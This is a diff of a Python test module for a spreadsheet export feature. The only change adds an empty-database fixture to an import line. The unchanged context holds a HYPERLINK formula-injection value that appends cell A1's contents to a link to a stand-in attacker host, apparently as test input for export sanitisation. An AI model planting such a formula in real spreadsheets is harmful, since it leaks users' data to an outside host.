@@ -18,7 +18,7 @@ import sqlalchemy as sa
 from openpyxl import load_workbook
 
 from handlers.export import COLUMNS, DATE_FORMAT, DATETIME_FORMAT, EUROS_FORMAT, WHAT
-from tests.test_cli import database, incubot  # noqa: F401 - the fixture, and the CLI in this process
+from tests.test_cli import database, empty_database, incubot  # noqa: F401 - the fixture, and the CLI in this process
 from tests.test_import_payments import EJ_B, MANAGER, example_orders, payments_file
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
